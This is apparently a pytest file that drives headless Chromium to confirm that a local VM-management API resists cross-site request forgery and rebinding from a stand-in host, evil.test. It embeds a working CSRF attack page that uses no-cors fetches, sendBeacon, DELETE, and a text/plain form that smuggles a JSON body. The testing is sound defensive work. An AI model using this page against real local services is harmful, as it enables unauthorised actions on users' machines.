"""A real browser: what a page of another site can do here, and what our own can."""

from __future__ import annotations

import asyncio
import shutil
import signal
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
from aiohttp import web
from aiohttp.test_utils import TestServer

from anka_runtime.programs import signal_group
from support.shim_rig import TEMPLATE, Rig, listening, rig

BROWSER = shutil.which("chromium")
SECONDS = 120.0
EVIL = "--host-resolver-rules=MAP evil.test 127.0.0.1"

pytestmark = pytest.mark.skipif(BROWSER is None, reason="no browser here")

PAGE = """<!doctype html><title>evil</title><body><script>
const url = "%(url)s", body = JSON.stringify({vmid: "%(vmid)s"});
const told = [], tell = text => told.push(text);
const attempts = {
  simple: () => fetch(url, {method: "POST", mode: "no-cors", body}),
  credentials: () => fetch(url, {method: "POST", mode: "no-cors", credentials: "include", body}),
  beacon: async () => navigator.sendBeacon(url, body),
  read: async () => tell("READ " + await (await fetch(url)).text()),
  json: () => fetch(url, {method: "POST", headers: {"Content-Type": "application/json"}, body}),
  remove: () => fetch(url, {method: "DELETE", body: "{}"}),
};
(async () => {
  for (const [name, attempt] of Object.entries(attempts))
    await attempt().then(() => tell(name + "-sent"), () => tell(name + "-failed"));
  const frame = document.createElement("iframe");
  frame.name = "frame";
  document.body.append(frame);
  const form = document.createElement("form");
  Object.assign(form, {method: "POST", action: url, enctype: "text/plain", target: "frame"});
  const field = document.createElement("input");
  Object.assign(field, {name: '{"vmid":"%(vmid)s","x":"', value: '"}'});
  form.append(field);
  document.body.append(form);
  form.submit();
  frame.onload = () => { tell("form-sent"); fetch("/done", {method: "POST", body: told.join(" ")}) };
})();
</script>"""


@asynccontextmanager
async def served() -> AsyncIterator[tuple[Rig, int]]:
    async with rig(allowed_hosts="localhost,shim") as shim, listening(shim.edge) as (_, port):
        yield shim, port


@asynccontextmanager
async def browser(profile: Path, *options: str) -> AsyncIterator[asyncio.subprocess.Process]:
    """It runs until the block ends."""
    assert BROWSER is not None
    process = await asyncio.create_subprocess_exec(
        BROWSER, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", f"--user-data-dir={profile}",
        *options, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.DEVNULL, start_new_session=True,
    )  # fmt: skip
    try:
        yield process
    finally:
        # With all the processes that it is made of.
        signal_group(process.pid, signal.SIGKILL)
        await process.wait()


async def shown(url: str, profile: Path, words: str, *options: str) -> None:
    """Return once the page shows these words. What its scripts add takes as long as the machine does."""
    text = ""
    async with asyncio.timeout(SECONDS):
        while words not in text:
            dump = (*options, "--virtual-time-budget=20000", "--dump-dom", url)
            async with browser(profile, *dump) as process:
                text = (await process.communicate())[0].decode()


@pytest.mark.parametrize("name", ["evil.test", "127.0.0.1"], ids=["another site", "another port"])
async def test_a_page_of_another_site_starts_nothing_and_reads_nothing(name: str, tmp_path: Path) -> None:
    done: asyncio.Future[str] = asyncio.get_running_loop().create_future()

    async def page(_: web.Request) -> web.Response:
        text = PAGE % {"url": f"http://127.0.0.1:{port}/api/v1/vm", "vmid": TEMPLATE}
        return web.Response(text=text, content_type="text/html")

    async def finish(request: web.Request) -> web.Response:
        text = await request.text()
        if not done.done():
            done.set_result(text)
        return web.Response()

    evil = web.Application()
    evil.router.add_get("/", page)
    evil.router.add_post("/done", finish)
    async with served() as (shim, port), TestServer(evil) as server:
        async with browser(tmp_path, EVIL, f"http://{name}:{server.port}/"):
            text = await asyncio.wait_for(done, SECONDS)
        for way in ("simple-sent", "beacon-sent", "form-sent", "json-failed", "remove-failed"):
            assert way in text
        assert "READ {" not in text
        assert await shim.body("GET", "/api/v1/vm") == []


async def test_another_name_for_our_address_shows_nothing(tmp_path: Path) -> None:
    async with served() as (_, port):
        await shown(f"http://evil.test:{port}/api/v1/vm", tmp_path, "this API is not served as 'evil.test", EVIL)


async def test_our_own_page_works(tmp_path: Path) -> None:
    async with served() as (_, port):
        await shown(f"http://localhost:{port}/docs", tmp_path, "operations-tag-")
